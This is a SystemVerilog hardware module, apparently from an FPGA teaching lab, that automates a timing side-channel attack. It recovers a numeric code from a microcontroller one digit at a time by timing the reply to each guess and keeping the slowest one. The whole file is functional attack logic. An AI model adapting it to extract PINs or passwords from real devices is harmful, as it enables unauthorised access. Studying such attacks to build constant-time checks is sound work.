// File: rtl/guess_scheduler.sv
// rtl/guess_scheduler.sv - timing-attack search sequencer for the guess link
//
// Walks every candidate byte CHAR_MIN..CHAR_MAX at each code position. For each
// candidate it pulses begin_transaction, times how long waiting_for_reply stays
// high, and keeps the slowest-replying candidate. When a position is exhausted
// the winner is committed and the next position starts. A YES reply ends the
// search successfully. A NO reply continues it. Any other reply, a timeout, or
// running out of positions ends it in failure.
//
// Ports:
//   CLK_50            in   system clock, rising edge
//   SW[0]             in   asynchronous active-low reset (shared with transmitter)
//   start             in   one-cycle pulse, begins an attack when not busy
//   begin_transaction out  one-cycle strobe to the guess-transmitter
//   waiting_for_reply in   high while the transmitter awaits the MCU reply
//   data_from_mcu     in   synchronized reply byte
//   guess             out  CODE_LEN bytes read combinationally by the transmitter
//   busy              out  attack in progress
//   done              out  YES received (sticky until start/reset)
//   fail              out  timeout, bad reply or exhaustion (sticky)
//   pos               out  code position currently searched
//   best_latency      out  largest latency seen at the current position
//   attempts          out  transactions since start, saturating
module guess_scheduler #(
  parameter int         CODE_LEN       = 4,
  parameter logic [7:0] CHAR_MIN       = 8'h30,
  parameter logic [7:0] CHAR_MAX       = 8'h39,
  parameter int         LAT_W          = 20,
  parameter int         GAP_CYCLES     = 8,
  parameter int         TIMEOUT_CYCLES = 1_000_000
) (
  input  logic                                           CLK_50,
  input  logic [0:0]                                     SW,
  input  logic                                           start,
  output logic                                           begin_transaction,
  input  logic                                           waiting_for_reply,
  input  logic [7:0]                                     data_from_mcu,
  output logic [7:0]                                     guess [0:CODE_LEN-1],
  output logic                                           busy,
  output logic                                           done,
  output logic                                           fail,
  output logic [((CODE_LEN > 1) ? $clog2(CODE_LEN) : 1)-1:0] pos,
  output logic [LAT_W-1:0]                               best_latency,
  output logic [15:0]                                    attempts
);

  localparam int POS_W = (CODE_LEN > 1) ? $clog2(CODE_LEN) : 1;
  localparam int GAP_W = (GAP_CYCLES > 1) ? $clog2(GAP_CYCLES + 1) : 1;
  localparam int TO_W  = $clog2(TIMEOUT_CYCLES + 1);

  localparam logic [GAP_W-1:0] GAP_LAST = GAP_W'(GAP_CYCLES - 1);
  // The counter is cleared in ISSUE and reads 0 in the first wait cycle. The
  // FSM leaves for FAIL on the cycle the count reaches TIMEOUT_CYCLES-2. That
  // way fail rises exactly TIMEOUT_CYCLES cycles after the begin_transaction cycle.
  localparam logic [TO_W-1:0]  TO_LAST  = TO_W'(TIMEOUT_CYCLES - 2);
  localparam logic [POS_W-1:0] POS_LAST = POS_W'(CODE_LEN - 1);

  localparam logic [7:0] REPLY_YES = 8'h03;
  localparam logic [7:0] REPLY_NO  = 8'h04;

  typedef enum logic [3:0] {
    S_IDLE,
    S_GAP,
    S_ISSUE,
    S_WAIT_ACCEPT,
    S_MEASURE,
    S_EVAL,
    S_COMMIT,
    S_DONE,
    S_FAIL
  } state_t;

  logic rst_n;
  assign rst_n = SW[0];

  state_t            state, state_n;
  logic [GAP_W-1:0]  gap_cnt;
  logic [TO_W-1:0]   to_cnt;
  logic [LAT_W-1:0]  latency;
  logic [7:0]        reply;
  logic [7:0]        cand;
  logic [7:0]        best_char;
  logic [7:0]        committed [0:CODE_LEN-1];
  logic              timeout_hit;

  assign timeout_hit = (to_cnt == TO_LAST);

  // Next-state logic
  always_comb begin
    state_n = state;
    case (state)
      S_IDLE, S_DONE, S_FAIL: begin
        if (start) state_n = S_GAP;
      end
      S_GAP: begin
        if (gap_cnt == GAP_LAST) state_n = S_ISSUE;
      end
      S_ISSUE: state_n = S_WAIT_ACCEPT;
      S_WAIT_ACCEPT: begin
        if (timeout_hit)            state_n = S_FAIL;
        else if (waiting_for_reply) state_n = S_MEASURE;
      end
      S_MEASURE: begin
        // Timeout wins over a reply that ends on the same cycle.
        if (timeout_hit) begin
          state_n = S_FAIL;
        end else if (!waiting_for_reply) begin
          if (reply == REPLY_YES)     state_n = S_DONE;
          else if (reply == REPLY_NO) state_n = S_EVAL;
          else                        state_n = S_FAIL;
        end
      end
      S_EVAL:   state_n = (cand == CHAR_MAX) ? S_COMMIT : S_GAP;
      S_COMMIT: state_n = (pos == POS_LAST) ? S_FAIL : S_GAP;
      default:  state_n = S_IDLE;
    endcase
  end

  // State register and datapath
  always_ff @(posedge CLK_50 or negedge rst_n) begin
    if (!rst_n) begin
      state        <= S_IDLE;
      gap_cnt      <= '0;
      to_cnt       <= '0;
      latency      <= '0;
      reply        <= '0;
      cand         <= CHAR_MIN;
      best_char    <= CHAR_MIN;
      pos          <= '0;
      best_latency <= '0;
      attempts     <= '0;
      for (int i = 0; i < CODE_LEN; i++) committed[i] <= CHAR_MIN;
    end else begin
      state   <= state_n;
      // Holds at zero outside GAP, so every entry into GAP starts a fresh count.
      gap_cnt <= (state == S_GAP) ? gap_cnt + 1'b1 : '0;

      case (state)
        S_IDLE, S_DONE, S_FAIL: begin
          if (start) begin
            pos          <= '0;
            attempts     <= '0;
            best_latency <= '0;
            cand         <= CHAR_MIN;
            best_char    <= CHAR_MIN;
            for (int i = 0; i < CODE_LEN; i++) committed[i] <= CHAR_MIN;
          end
        end
        S_ISSUE: begin
          if (attempts != 16'hFFFF) attempts <= attempts + 1'b1;
          to_cnt <= '0;
        end
        S_WAIT_ACCEPT: begin
          to_cnt <= to_cnt + 1'b1;
          if (waiting_for_reply) begin
            latency <= LAT_W'(1);
            reply   <= data_from_mcu;
          end
        end
        S_MEASURE: begin
          to_cnt <= to_cnt + 1'b1;
          if (waiting_for_reply) begin
            if (!(&latency)) latency <= latency + 1'b1;
            reply <= data_from_mcu;
          end
        end
        S_EVAL: begin
          // Strict compare: on a tie the earlier (lower) candidate is kept.
          if (latency > best_latency) begin
            best_latency <= latency;
            best_char    <= cand;
          end
          if (cand != CHAR_MAX) cand <= cand + 8'd1;
        end
        S_COMMIT: begin
          if (pos != POS_LAST) begin
            committed[pos] <= best_char;
            pos            <= pos + 1'b1;
            cand           <= CHAR_MIN;
            best_latency   <= '0;
            best_char      <= CHAR_MIN;
          end
        end
        default: ;
      endcase
    end
  end

  // Committed prefix, current candidate, then filler.
  always_comb begin
    for (int i = 0; i < CODE_LEN; i++) begin
      if (i < int'(pos))       guess[i] = committed[i];
      else if (i == int'(pos)) guess[i] = cand;
      else                     guess[i] = CHAR_MIN;
    end
  end

  assign begin_transaction = (state == S_ISSUE);
  assign done              = (state == S_DONE);
  assign fail              = (state == S_FAIL);
  assign busy              = (state == S_GAP) || (state == S_ISSUE) ||
                             (state == S_WAIT_ACCEPT) || (state == S_MEASURE) ||
                             (state == S_EVAL) || (state == S_COMMIT);

endmodule
